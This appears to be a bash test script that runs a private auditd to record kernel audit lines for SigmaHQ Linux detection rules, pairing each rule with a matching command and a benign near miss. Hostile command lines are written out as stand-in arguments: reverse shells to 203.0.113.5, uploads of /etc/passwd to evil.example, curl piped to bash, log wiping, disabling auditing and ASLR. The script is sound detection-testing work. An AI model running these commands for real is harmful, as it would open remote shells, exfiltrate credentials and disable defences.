#!/bin/bash
# Captures, under a real auditd and kernel, the commands the SigmaHQ Linux rules in rules/linux
# look for, and a near miss of each (a similar benign command), into captures/RULE.match.log and
# captures/RULE.miss.log (RULE: the rule file's name without .yml): the raw lines auditd wrote,
# which KernelCaptureTest feeds through the sigma enricher.
#
#   sudo testdata/sigma/capture.sh [OUTDIR]        # default: testdata/sigma/captures
#
# On the shared build machine run it only under the auditd lock, for at most 12 minutes:
#   flock /work/wt/auditd.lock timeout 600 testdata/sigma/capture.sh
#
# auditd runs in the foreground from a private config directory (auditd -f -n -c DIR, as
# laurel-dist's AuditdIT does), handing the lines to a plugin that writes them there (as it hands
# them to laurel: ENRICHED, EOE records included); the audit rules added watch one made-up
# login uid only (the scenario's), and are deleted, and the enabled flag and backlog limit put
# back, however the script ends. It refuses to run while another auditd is registered.
#
# Commands that would change the machine (shutdown, userdel, auditctl -D, sysctl -w, rm of
# /var/log, a reverse shell, ...) and commands not installed run as STAND-INS: a copy of
# /bin/true under the command's name in a private directory, executed with the command's name
# as argv[0] and its real arguments (bash's exec -a). The kernel records exactly what it would
# for the real command's exec (EXECVE arguments, the exe path ending in /NAME), which is what
# those rules look at; the rest run the real binary with harmless arguments in a temp directory.
set -u
# the system's commands, not a user's shims (pyenv's python3 is a shell script running dozens more)
PATH=/usr/sbin:/usr/bin:/sbin:/bin
export PATH

if [ "${1:-}" = --scenario ]; then
    W=$2
    cd "$W/work" || exit 91
    exec </dev/null >/dev/null 2>&1
    mark() { /bin/true sigma-capture-marker "$1"; }
    standin() {
        local name=$1
        shift
        [ -x "$W/bin/$name" ] || cp /bin/true "$W/bin/$name"
        (exec -a "$name" "$W/bin/$name" "$@")
    }
    # RULE match|miss, then the command
    run() {
        local id=$1.$2
        shift 2
        mark "$id"
        "$@"
    }
    sh_() { /bin/sh -c "$1"; }
    T=/tmp/sigma-capture.$$
    mkdir -p "$T"
    printf 'x\n' > a.jpg; printf 'x\n' > b.zip; printf 'x\n' > b.txt; printf 'x\n' > f; printf 'x\n' > list
    printf 'cGFzc3dvcmQ=\n' > in.txt; printf 'password=x\n' > creds; : > .bash_history; : > .bashrc

    # --- service: auditd, EXECVE records ---
    run lnx_auditd_binary_padding match truncate -s +5M padded
    run lnx_auditd_binary_padding miss dd if=f of=copy count=0
    run lnx_auditd_capabilities_discovery match standin getcap -r /
    run lnx_auditd_capabilities_discovery miss getcap /usr/bin/ping
    run lnx_auditd_change_file_time_attr match touch -t 202001010000 f
    run lnx_auditd_change_file_time_attr miss touch newfile
    run lnx_auditd_chattr_immutable_removal match chattr -i f
    run lnx_auditd_chattr_immutable_removal miss chattr +A f
    run lnx_auditd_clipboard_collection match standin xclip -selection clipboard -o
    run lnx_auditd_clipboard_collection miss standin xclip -selection clipboard -i
    run lnx_auditd_coinminer match standin xmrig -o pool.example:3333 --cpu-priority=5
    run lnx_auditd_coinminer miss nice -n 5 /bin/true
    run lnx_auditd_data_compressed match tar -czf x.tgz f
    run lnx_auditd_data_compressed miss tar -tzf x.tgz
    run lnx_auditd_data_exfil_wget match standin wget --post-file=/etc/passwd http://198.51.100.1/
    run lnx_auditd_data_exfil_wget miss standin wget http://198.51.100.1/file
    run lnx_auditd_dd_delete_file match dd if=/dev/zero of=zeroed bs=1 count=1
    run lnx_auditd_dd_delete_file miss dd if=f of=copy2 count=0
    run lnx_auditd_disable_aslr_protection match standin sysctl -w kernel.randomize_va_space=0
    run lnx_auditd_disable_aslr_protection miss standin sysctl -w kernel.randomize_va_space=2
    run lnx_auditd_file_or_folder_permissions match chmod 755 f
    run lnx_auditd_file_or_folder_permissions miss ls -l f
    run lnx_auditd_find_cred_in_files match grep -ri password creds
    run lnx_auditd_find_cred_in_files miss grep -ri user creds
    run lnx_auditd_hidden_files_directories match mkdir .hidden
    run lnx_auditd_hidden_files_directories miss mkdir normal
    run lnx_auditd_hidden_zip_files_steganography match cat a.jpg b.zip
    run lnx_auditd_hidden_zip_files_steganography miss cat a.jpg b.txt
    run lnx_auditd_masquerading_crond match cp /bin/sh "$W/work/crond"
    run lnx_auditd_masquerading_crond miss cp /bin/sh "$W/work/backup"
    run lnx_auditd_modify_system_firewall match standin nft flush ruleset
    run lnx_auditd_modify_system_firewall miss standin nft list ruleset
    run lnx_auditd_network_sniffing match standin tcpdump -c 10 -i eth0
    run lnx_auditd_network_sniffing miss standin tcpdump -i eth0 -c 10
    run lnx_auditd_bpfdoor_port_redirect match standin iptables -t nat -A PREROUTING -p tcp -s 192.168.1.2 --dport 22 -j REDIRECT --to-ports 42392
    run lnx_auditd_bpfdoor_port_redirect miss standin iptables -t nat -A PREROUTING -p tcp -s 192.168.1.2 --dport 80 -j REDIRECT --to-ports 8080
    run lnx_auditd_steghide_extract_steganography match standin steghide extract -sf stego.jpg
    run lnx_auditd_steghide_extract_steganography miss standin steghide extract -sf stego.bmp
    run lnx_auditd_clipboard_image_collection match standin xclip -sel clip -t image/png -o
    run lnx_auditd_clipboard_image_collection miss standin xclip -sel clip -t text/plain -o
    run lnx_auditd_screencaputre_xwd match standin xwd -root -out /tmp/x.xwd
    run lnx_auditd_screencaputre_xwd miss standin xwd -root -out /tmp/x.png
    run lnx_auditd_screencapture_import match standin import -window root /tmp/s.png
    run lnx_auditd_screencapture_import miss standin import -window root /tmp/s.txt
    run lnx_auditd_steghide_embed_steganography match standin steghide embed -cf cover.jpg -ef secret.txt
    run lnx_auditd_steghide_embed_steganography miss standin steghide info cover.jpg
    run lnx_auditd_susp_cmds match chmod u+s f
    run lnx_auditd_susp_cmds miss chmod u+x f
    run lnx_auditd_susp_histfile_operations match cat .bash_history
    run lnx_auditd_susp_histfile_operations miss cat .bashrc
    run lnx_auditd_susp_service_reload_or_restart match standin systemctl restart nginx
    run lnx_auditd_susp_service_reload_or_restart miss standin systemctl status nginx
    run lnx_auditd_system_info_discovery match uname -a
    run lnx_auditd_system_info_discovery miss grep error creds
    run lnx_auditd_system_shutdown_reboot match standin shutdown -h now
    run lnx_auditd_system_shutdown_reboot miss ls /etc/systemd
    run lnx_auditd_unzip_hidden_zip_files_steganography match unzip a.jpg
    run lnx_auditd_unzip_hidden_zip_files_steganography miss unzip b.zip
    run lnx_auditd_user_discovery match whoami
    run lnx_auditd_user_discovery miss standin whois example.org

    # --- service: auditd, SYSCALL and PATH records ---
    run lnx_auditd_create_account match standin useradd bob
    run lnx_auditd_create_account miss standin usermod -L bob
    run lnx_auditd_web_rce match setpriv --reuid=33 --regid=33 --clear-groups /bin/true
    run lnx_auditd_web_rce miss setpriv --reuid=34 --regid=34 --clear-groups /bin/true
    run lnx_auditd_susp_exe_folders match sh_ "cp /bin/true $T/run && $T/run"
    run lnx_auditd_susp_exe_folders miss /usr/bin/true
    run lnx_auditd_split_file_into_pieces match split --help
    run lnx_auditd_split_file_into_pieces miss csplit --help
    run lnx_auditd_susp_discovery_sysinfo_syscall match python3 -c 'import ctypes; ctypes.CDLL(None).sysinfo(ctypes.create_string_buffer(256))'
    run lnx_auditd_susp_discovery_sysinfo_syscall miss uname -a
    run lnx_auditd_susp_special_file_creation_via_mknod_syscall match python3 -c "import ctypes; ctypes.CDLL(None).syscall(133, b'$W/work/fifo', 0o10600, 0)"
    run lnx_auditd_susp_special_file_creation_via_mknod_syscall miss python3 -c "import ctypes; ctypes.CDLL(None).syscall(83, b'$W/work/dir', 0o700)"
    run lnx_auditd_system_info_discovery2 match cat /etc/issue
    run lnx_auditd_system_info_discovery2 miss cat /etc/hosts
    run lnx_auditd_unix_shell_configuration_modification match cat /etc/shells
    run lnx_auditd_unix_shell_configuration_modification miss cat /etc/hostname
    run lnx_auditd_password_policy_discovery match cat /etc/login.defs
    run lnx_auditd_password_policy_discovery miss cat /etc/adduser.conf
    run lnx_auditd_susp_c2_commands match wget --version
    run lnx_auditd_susp_c2_commands miss cat --version

    # --- category: process_creation ---
    run proc_creation_lnx_apt_shell_execution match standin apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
    run proc_creation_lnx_apt_shell_execution miss standin apt-get update
    run proc_creation_lnx_auditctl_clear_rules match standin auditctl -D
    run proc_creation_lnx_auditctl_clear_rules miss standin auditctl -l
    run proc_creation_lnx_awk_shell_spawn match standin awk 'BEGIN {system("/bin/sh")}'
    run proc_creation_lnx_awk_shell_spawn miss awk '{print $1}' creds
    run proc_creation_lnx_base64_execution match bash -c 'echo ZWNobwo= | base64 -d | bash'
    run proc_creation_lnx_base64_execution miss bash -c 'base64 -d in.txt > out.bin'
    run proc_creation_lnx_bash_interactive_shell match standin bash -i '>&' /dev/tcp/203.0.113.5/4444 '0>&1'
    run proc_creation_lnx_bash_interactive_shell miss bash -c id
    run proc_creation_lnx_cap_setuid match standin setcap cap_setuid+ep f
    run proc_creation_lnx_cap_setuid miss standin setcap cap_net_raw+ep f
    run proc_creation_lnx_capsh_shell_invocation match standin capsh --
    run proc_creation_lnx_capsh_shell_invocation miss capsh --print
    run proc_creation_lnx_bpftrace_unsafe_option_usage match standin bpftrace --unsafe -e 'kprobe:x { system("id") }'
    run proc_creation_lnx_bpftrace_unsafe_option_usage miss standin bpftrace -e 'kprobe:x { printf("x") }'
    run proc_creation_lnx_clipboard_collection match standin xclip -sel clip -o
    run proc_creation_lnx_clipboard_collection miss standin xclip -sel clip -i
    run proc_creation_lnx_crypto_mining match standin xmrig -o stratum+tcp://pool.example:3333
    run proc_creation_lnx_crypto_mining miss standin curl https://example.org/
    run proc_creation_lnx_curl_wget_exec_tmp match standin sh -c '/usr/bin/curl http://198.51.100.1/a -o /tmp/a'
    run proc_creation_lnx_curl_wget_exec_tmp miss standin sh -c '/usr/bin/curl http://198.51.100.1/a -o /home/u/a'
    run proc_creation_lnx_esxcli_network_discovery match standin esxcli network ip interface list
    run proc_creation_lnx_esxcli_network_discovery miss standin esxcli network firewall set --enabled false
    run proc_creation_lnx_esxcli_storage_discovery match standin esxcli storage filesystem list
    run proc_creation_lnx_esxcli_storage_discovery miss standin esxcli storage core device set -d x
    run proc_creation_lnx_esxcli_system_discovery match standin esxcli system version get
    run proc_creation_lnx_esxcli_system_discovery miss standin esxcli system shutdown reboot -r x
    run proc_creation_lnx_esxcli_vsan_discovery match standin esxcli vsan cluster get
    run proc_creation_lnx_esxcli_vsan_discovery miss standin esxcli vsan network remove -i vmk1
    run proc_creation_lnx_pua_trufflehog match standin trufflehog git https://example.org/r.git
    run proc_creation_lnx_pua_trufflehog miss standin gitleaks detect
    run proc_creation_lnx_ssm_agent_abuse match standin amazon-ssm-agent -register -code abc -id def -region us-east-1
    run proc_creation_lnx_ssm_agent_abuse miss standin amazon-ssm-agent -register -code abc
    run proc_creation_lnx_susp_shell_script_exec_from_susp_location match standin bash -c /tmp/run.sh
    run proc_creation_lnx_susp_shell_script_exec_from_susp_location miss standin bash /tmp/run.sh
    run proc_creation_lnx_chmod_targeting_sensitive_directories match chmod +x "$T"
    run proc_creation_lnx_chmod_targeting_sensitive_directories miss chmod +x f
    run proc_creation_lnx_clear_logs match standin rm -rf /var/log/auth.log
    run proc_creation_lnx_clear_logs miss standin rm -f /var/log/sysstat/sa01
    run proc_creation_lnx_crontab_enumeration match standin crontab -l
    run proc_creation_lnx_crontab_enumeration miss standin crontab -e
    run proc_creation_lnx_dd_process_injection match standin dd if=sc of=/proc/1234/mem
    run proc_creation_lnx_dd_process_injection miss dd if=/dev/zero of=zero3 count=0
    run proc_creation_lnx_doas_execution match standin doas id
    run proc_creation_lnx_doas_execution miss standin sudo id
    run proc_creation_lnx_esxcli_vm_discovery match standin esxcli vm process list
    run proc_creation_lnx_esxcli_vm_discovery miss standin esxcli vm process kill --type=soft --world-id=1
    run proc_creation_lnx_file_deletion match rm -f copy
    run proc_creation_lnx_file_deletion miss ls copy2
    run proc_creation_lnx_flock_shell_execution match standin flock -u / /bin/sh -p
    run proc_creation_lnx_flock_shell_execution miss flock lock /bin/true
    run proc_creation_lnx_groupdel match standin groupdel staff2
    run proc_creation_lnx_groupdel miss standin groupadd staff2
    run proc_creation_lnx_install_suspicious_packages match standin apt-get install -y nmap
    run proc_creation_lnx_install_suspicious_packages miss standin apt-get install -y vim
    run proc_creation_lnx_local_account match cat /etc/passwd
    run proc_creation_lnx_local_account miss cat /etc/hosts
    run proc_creation_lnx_malware_gobrat_grep_payload_discovery match grep -q frpc list
    run proc_creation_lnx_malware_gobrat_grep_payload_discovery miss grep -q error list
    run proc_creation_lnx_mkfifo_named_pipe_creation_susp_location match mkfifo "$T/f"
    run proc_creation_lnx_mkfifo_named_pipe_creation_susp_location miss mkfifo f2
    run proc_creation_lnx_netcat_reverse_shell match standin nc -e /bin/sh 203.0.113.5 4444
    run proc_creation_lnx_netcat_reverse_shell miss standin nc -zv 203.0.113.5 22
    run proc_creation_lnx_nohup match nohup /bin/true
    run proc_creation_lnx_nohup miss nice /bin/true
    run proc_creation_lnx_perl_reverse_shell match standin perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'
    run proc_creation_lnx_perl_reverse_shell miss perl -e 'print "hello"'
    run proc_creation_lnx_pnscan_binary_cli_pattern match standin pnscan -W '"2a 31 0d 0a"' 10.0.0.0/24 6379
    run proc_creation_lnx_pnscan_binary_cli_pattern miss standin pnscan -v 10.0.0.0/24 6379
    run proc_creation_lnx_python_http_server_execution match standin python3 -m http.server 8000
    run proc_creation_lnx_python_http_server_execution miss python3 -m venv --help
    run proc_creation_lnx_python_reverse_shell match standin python3 -c 'import socket,pty;s=socket.socket();s.connect(("203.0.113.5",4444));pty.spawn("sh")'
    run proc_creation_lnx_python_reverse_shell miss python3 -c 'import socket;print(socket.gethostname())'
    run proc_creation_lnx_remove_package match standin apt-get remove -y auditd
    run proc_creation_lnx_remove_package miss standin apt-get update
    run proc_creation_lnx_schedule_task_job_cron match standin crontab /tmp/cron
    run proc_creation_lnx_schedule_task_job_cron miss standin crontab -l
    run proc_creation_lnx_security_tools_disabling match standin systemctl stop firewalld
    run proc_creation_lnx_security_tools_disabling miss standin systemctl start firewalld
    run proc_creation_lnx_setgid_setuid match sh -c 'chown root f; chmod u+s f'
    run proc_creation_lnx_setgid_setuid miss sh -c 'chown root f'
    run proc_creation_lnx_susp_curl_fileupload match standin curl -F file=@/etc/passwd http://evil.example/
    run proc_creation_lnx_susp_curl_fileupload miss standin curl -f http://evil.example/
    run proc_creation_lnx_susp_dockerenv_recon match ls -la /.dockerenv
    run proc_creation_lnx_susp_dockerenv_recon miss ls -la /.dockerinit
    run proc_creation_lnx_susp_execution_tmp_folder match sh_ "cp /bin/true $T/x && $T/x"
    run proc_creation_lnx_susp_execution_tmp_folder miss /bin/true /tmp/
    run proc_creation_lnx_susp_git_clone match standin git clone https://example.org/x/CVE-2021-4034
    run proc_creation_lnx_susp_git_clone miss standin git clone https://example.org/x/dotfiles
    run proc_creation_lnx_susp_history_recon match cat .bash_history
    run proc_creation_lnx_susp_history_recon miss cat .bashrc
    run proc_creation_lnx_susp_inod_listing match ls -lid /
    run proc_creation_lnx_susp_inod_listing miss ls -l /
    run proc_creation_lnx_susp_pipe_shell match standin sh -c 'curl http://198.51.100.1/x | bash'
    run proc_creation_lnx_susp_pipe_shell miss sh -c 'ls | grep x'
    run proc_creation_lnx_susp_recon_indicators match find . -perm -4000 -type f
    run proc_creation_lnx_susp_recon_indicators miss find . -name x
    run proc_creation_lnx_susp_sensitive_file_access match standin vim /etc/ssh/sshd.conf
    run proc_creation_lnx_susp_sensitive_file_access miss standin vim notes.txt
    run proc_creation_lnx_system_network_connections_discovery match who
    run proc_creation_lnx_system_network_connections_discovery miss whoami
    run proc_creation_lnx_systemctl_mask_power_settings match standin systemctl mask suspend.target
    run proc_creation_lnx_systemctl_mask_power_settings miss standin systemctl unmask suspend.target
    run proc_creation_lnx_triple_cross_rootkit_execve_hijack match standin sudo ./execve_hijack
    run proc_creation_lnx_triple_cross_rootkit_execve_hijack miss standin sudo ./install
    run proc_creation_lnx_userdel match standin userdel bob
    run proc_creation_lnx_userdel miss standin usermod -L bob
    run proc_creation_lnx_vim_shell_execution match standin vim -c ':!/bin/sh'
    run proc_creation_lnx_vim_shell_execution miss standin vim -c :wq x
    run proc_creation_lnx_wget_download_suspicious_directory match standin wget -O /tmp/x http://198.51.100.1/x
    run proc_creation_lnx_wget_download_suspicious_directory miss standin wget -o /var/log/wget.log http://198.51.100.1/x
    mark end
    rm -rf "$T"
    exit 0
fi

OUT=${1:-$(cd "$(dirname "$0")" && pwd)/captures}
SELF=$(cd "$(dirname "$0")" && pwd)/$(basename "$0")
if [ "$(id -u)" != 0 ]; then
    echo "capture.sh: run as root: it starts auditd and adds audit rules" >&2
    exit 2
fi
status() { auditctl -s | awk -v k="$1" '$1 == k { print $2 }'; }
if [ "$(status pid)" != 0 ]; then
    echo "capture.sh: an auditd is registered (pid $(status pid)); it starts its own" >&2
    exit 3
fi
before_enabled=$(status enabled)
before_backlog=$(status backlog_limit)
if [ "$before_enabled" = 2 ]; then
    echo "capture.sh: the audit configuration is locked (enabled 2)" >&2
    exit 3
fi
W=$(mktemp -d /run/sigma-capture.XXXXXX)
AUID=$((1900000000 + RANDOM))
RULES=()
AUDITD=
cleanup() {
    for r in "${RULES[@]}"; do
        # shellcheck disable=SC2086 # the rule's words
        auditctl -d $r >/dev/null 2>&1
    done
    if [ -n "$AUDITD" ] && kill -0 "$AUDITD" 2>/dev/null; then
        kill "$AUDITD"
        wait "$AUDITD" 2>/dev/null
    fi
    auditctl -b "$before_backlog" >/dev/null 2>&1
    auditctl -e "$before_enabled" >/dev/null 2>&1
    rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
rule() {
    auditctl -a "$@" || exit 4
    RULES+=("$*")
}

mkdir -p "$W/bin" "$W/work" "$W/plugins"
chmod 755 "$W" "$W/bin"
cat > "$W/auditd.conf" <<EOF
local_events = yes
write_logs = no
log_file = $W/unused.log
log_format = ENRICHED
flush = none
freq = 0
num_logs = 2
name_format = none
max_log_file = 64
max_log_file_action = ignore
space_left = 75
space_left_action = ignore
admin_space_left = 50
admin_space_left_action = ignore
disk_full_action = ignore
disk_error_action = ignore
q_depth = 20000
overflow_action = syslog
plugin_dir = $W/plugins
end_of_event_timeout = 2
EOF
# the lines reach a plugin as auditd hands them to laurel, which writes them down
printf '#!/bin/sh\nexec cat >> %s/audit.log\n' "$W" > "$W/sink"
chmod 755 "$W/sink"
cat > "$W/plugins/sink.conf" <<EOF
active = yes
direction = out
path = $W/sink
type = always
format = string
EOF
chmod 640 "$W/auditd.conf" "$W/plugins/sink.conf"
auditd -f -n -c "$W" > "$W/auditd.out" 2>&1 &
AUDITD=$!
for _ in $(seq 100); do
    [ "$(status pid)" = "$AUDITD" ] && break
    sleep 0.2
done
[ "$(status pid)" = "$AUDITD" ] || { echo "capture.sh: auditd did not start:" >&2; cat "$W/auditd.out" >&2; exit 5; }

A="-F arch=b64 -F auid=$AUID"
# the first rule that matches a syscall gives the event its key: the watch of wget first, as the
# rule's definition asks (-w /usr/bin/wget -p x -k susp_activity)
rule always,exit $A -F path=/usr/bin/wget -F perm=x -k susp_activity
rule always,exit $A -S execve -S execveat -k sigma-exec
rule always,exit $A -S sysinfo -S uname -S mknod -S mkdir -k sigma-syscall
for f in /etc/issue /etc/hosts /etc/shells /etc/hostname /etc/login.defs /etc/adduser.conf; do
    rule always,exit $A -F path=$f -F perm=r -k sigma-read
done
auditctl -b 16384 >/dev/null
auditctl -e 1 >/dev/null

started=$(date +%s)
(echo "$AUID" > /proc/self/loginuid && exec bash "$SELF" --scenario "$W")
echo "capture.sh: scenario ran in $(($(date +%s) - started)) s (status $?)" >&2
sleep 3
kill "$AUDITD"
wait "$AUDITD" 2>/dev/null
AUDITD=
if [ ! -s "$W/audit.log" ]; then
    echo "capture.sh: auditd's plugin wrote nothing; auditd said:" >&2
    cat "$W/auditd.out" >&2
    exit 6
fi

mkdir -p "$OUT"
python3 - "$W/audit.log" "$OUT" <<'EOF'
import re, sys
log, out = sys.argv[1], sys.argv[2]
event = re.compile(rb"msg=audit\(([0-9.]+:[0-9]+)\)")
marker = re.compile(rb'^type=EXECVE .*a1="sigma-capture-marker" a2="([^"]+)"')
# the marker's own event (its SYSCALL record comes before the EXECVE naming the case) is no case's
markers = {}
for line in open(log, "rb"):
    m, mk = event.search(line), marker.match(line)
    if m and mk:
        markers[m.group(1)] = mk.group(1).decode()
case, owner, lines = None, {}, {}
for line in open(log, "rb"):
    m = event.search(line)
    if not m:
        continue
    eid = m.group(1)
    if eid in markers:
        case = markers[eid]
        continue
    owner.setdefault(eid, case)
    if owner[eid] not in (None, "end"):
        lines.setdefault(owner[eid], {}).setdefault(eid, []).append(line)
for c, events in lines.items():
    with open(f"{out}/{c}.log", "wb") as f:
        for eid, ls in events.items():
            f.writelines(ls)
print(f"capture.sh: {len(lines)} captures in {out}", file=sys.stderr)
EOF
